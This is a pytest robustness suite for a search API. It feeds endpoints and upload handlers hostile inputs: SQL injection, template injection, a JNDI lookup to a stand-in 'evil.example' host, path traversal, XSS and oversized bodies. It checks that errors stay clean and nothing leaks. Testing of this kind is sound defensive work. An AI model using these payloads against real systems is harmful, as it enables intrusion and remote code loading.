"""Whatever is sent: a clear error, nothing lost, nothing leaked, the server alive."""

import asyncio
import io
import threading
from typing import Any

import pytest
from starlette.exceptions import HTTPException

from api import envelope
from tests.api_world import World

NASTY = (
    "'; drop table people; --", "{{7*7}}", "${jndi:ldap://evil.example/x}", "../../etc/passwd",
    "..%2f..%2fetc%2fpasswd", "<script>alert(1)</script>", "\x00\x01\x1b[31m", "\u202e\u2066",
    "\ud83d\ude00" * 200, "a" * 1999, "-1", "1e999", "NaN", "null", "[]", "%s%s%n", "\\", "=1+1",
    "((((((((" * 100, "not " * 400, "*" * 500, '"' * 501, "0x41", "٣", "ﬁ", " ", "\t\r\n",
)  # fmt: skip
PLACES = (
    "/parse?q={}", "/search?q={}", "/search?q=moe&repo={}", "/search?q=moe&cursor={}",
    "/search?q=moe&limit={}", "/pool?q={}", "/pool?q=moe&by={}", "/pool?q=moe&titles={}",
    "/people/{}", "/people/{}/similar", "/people/{}/commits", "/people/{}/screening?topic=moe",
    "/people/x/screening?topic={}", "/searches/{}", "/shortlists/{}", "/shared/{}", "/jobs/{}",
    "/shortlists/{}/export?format=csv", "/search/export?q={}&format=csv",
    "/search/export?q=moe&format={}", "/audit?before={}", "/shortlists/x/compare?with={}",
    "/exposure?days={}", "/notices?limit={}", "/people/{}/notice", "/people/x/notice?language={}",
    "/searches/{}/alerts", "/searches/x/alerts?after={}", "/shared/{}/feed.atom",
    "/search?q=moe&blind={}", "/runs?limit={}",
)  # fmt: skip


@pytest.mark.parametrize("place", PLACES)
def test_no_parameter_breaks_it(shared: World, place: str) -> None:
    from urllib.parse import quote

    for text in NASTY:
        path = place.format(quote(text.encode("utf-8", "surrogatepass"), safe=""))
        answer = shared.client.get(f"/api/v1{path}")
        assert answer.status_code < 500, (path, answer.text)
        if answer.status_code >= 400:
            assert answer.headers["content-type"] == "application/problem+json"
            assert "Traceback" not in answer.text
            assert "/work" not in answer.text
            assert "select " not in answer.text.lower()
    assert shared.client.get("/healthz").status_code == 200


BODIES: dict[str, bytes] = {
    "not JSON": b"{",
    "deep": b'{"query": ' + b"[" * 100_000 + b"]" * 100_000 + b"}",
    "deep objects": b'{"query":{"filters":' * 5_000 + b"1" + b"}}" * 5_000,
    "a number": b"7",
    "a bare text": b'"moe"',
    "NaN": b'{"query": NaN}',
    "not UTF-8": b'{"query": "\xff\xfe"}',
    "a lone surrogate": b'{"query": "\\ud800"}',
    "unknown key": b'{"query": "moe", "weights": {}}',
    "wrong type": b'{"query": 7}',
    "huge number": b'{"query": "moe", "limit": 1' + b"0" * 5_000 + b"}",
    "wrong filter": b'{"query": {"filters": [{"field": "gender", "op": "=", "value": "x"}]}}',
    "wrong span": b'{"query": {"text": "a", "topics": [{"id": "moe", "span": [5, 99]}]}}',
    "empty": b"",
    "nul": b'{"query": "\\u0000"}',
}


@pytest.mark.parametrize("name", BODIES)
def test_no_body_breaks_it(shared: World, name: str) -> None:
    for path in ("/search", "/searches", "/shortlists", "/merges", "/suppressions", "/session"):
        answer = shared.client.post(
            f"/api/v1{path}", content=BODIES[name], headers={"Content-Type": "application/json"}
        )
        assert answer.status_code < 500, (path, answer.text)
        assert len(answer.content) < 20_000 or answer.status_code == 200


def test_ten_megabytes_are_refused(shared: World) -> None:
    body = b'{"query": "' + b"a" * 10_000_000 + b'"}'
    answer = shared.client.post(
        "/api/v1/search", content=body, headers={"Content-Type": "application/json"}
    )
    assert answer.status_code == 413
    assert answer.json()["detail"] == "the request is too large. Send less at a time"


def test_a_form_is_not_taken_for_json(shared: World) -> None:
    answer = shared.client.post(
        "/api/v1/shortlists", content=b'{"name": "x"}', headers={"Content-Type": "text/plain"}
    )
    assert answer.status_code in (415, 422)


def test_a_slow_client_is_given_up(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(envelope, "PATIENCE", 0.05)

    async def never() -> dict[str, Any]:
        await asyncio.sleep(60)
        return {}

    with pytest.raises(HTTPException) as refused:
        asyncio.run(envelope._Reading(never, 100)())
    assert refused.value.status_code == 408


def test_a_body_may_not_drip_in_forever(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(envelope, "LONGEST", 0.2)

    async def drop() -> dict[str, Any]:
        await asyncio.sleep(0.01)
        return {"type": "http.request", "body": b"a", "more_body": True}

    async def read() -> None:
        reading = envelope._Reading(drop, 1 << 20)
        while True:
            await reading()

    with pytest.raises(HTTPException) as refused:
        asyncio.run(asyncio.wait_for(read(), 10))
    assert refused.value.status_code == 408


def test_uploads_keep_to_their_folder(fresh: World) -> None:
    for name in ("../../evil.csv", "..\\..\\evil.csv", "/etc/passwd", "", ".", "a\x00b.csv"):
        files = {"file": (name or "x", io.BytesIO(b"a,b\n1,2\n"), "text/csv")}
        fresh.client.post("/api/v1/imports", files=files)
    inside = {path for path in (fresh.data / "inbox").rglob("*") if path.is_file()}
    assert all(len(path.relative_to(fresh.data / "inbox").parts) == 2 for path in inside)
    assert not (fresh.data.parent / "evil.csv").exists()


def test_an_error_of_ours_says_nothing_of_the_inside(
    fresh: World, monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture
) -> None:
    def broken(*_: object) -> None:
        raise ValueError("the secret is mira@firm.example")

    monkeypatch.setattr(fresh.app.state.desk.snapshots, "current", broken)
    answer = fresh.client.get("/api/v1/topics")
    assert answer.status_code == 500
    assert answer.json()["detail"] == "this is our fault; the log has more"
    assert "mira" not in answer.text
    ours = [record for record in caplog.records if record.name.startswith("api")]
    assert "ValueError at" in ours[-1].getMessage()
    assert "mira" not in ours[-1].getMessage()


def test_many_at_once_are_all_answered(shared: World) -> None:
    statuses: list[int] = []

    def ask(number: int) -> None:
        for turn in range(5):
            question = {"q": f"moe kernels {number} {turn}", "limit": 3}
            statuses.append(shared.client.get("/api/v1/search", params=question).status_code)

    asking = [threading.Thread(target=ask, args=(number,)) for number in range(8)]
    for one in asking:
        one.start()
    for one in asking:
        one.join()
    assert statuses == [200] * 40
